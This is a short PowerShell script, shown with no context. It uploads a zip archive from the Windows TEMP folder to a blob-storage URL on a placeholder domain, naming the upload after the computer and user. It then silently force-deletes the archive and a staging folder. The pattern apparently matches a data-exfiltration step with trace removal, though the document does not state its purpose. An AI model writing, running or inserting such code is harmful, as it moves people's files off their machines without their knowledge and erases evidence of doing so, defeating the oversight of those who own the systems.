$z = "$env:TEMP\odx.zip"
$u = "https://sa-odindex.blob.example.net/inbox/$($env:COMPUTERNAME)-$($env:USERNAME).zip?sv=2024-05-04&ss=b&srt=o&sp=wc&se=2027-01-01&sig=0000000000000000000000000000000000000000000%3D"
Invoke-WebRequest -Uri $u -Method Put -InFile $z -Headers @{ 'x-ms-blob-type' = 'BlockBlob' } -UseBasicParsing | Out-Null
Remove-Item $z, (Join-Path $env:TEMP 'odx') -Recurse -Force -ErrorAction SilentlyContinue
